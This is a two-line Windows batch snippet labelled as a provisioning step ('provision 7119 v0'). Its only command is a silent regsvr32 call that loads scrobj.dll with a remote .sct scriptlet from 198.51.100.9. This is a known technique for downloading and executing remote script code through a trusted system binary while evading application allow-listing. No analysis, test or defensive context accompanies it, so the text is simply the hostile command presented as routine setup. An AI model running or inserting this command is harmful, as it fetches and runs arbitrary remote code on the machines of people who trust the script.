REM provision 7119 v0
regsvr32 /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll
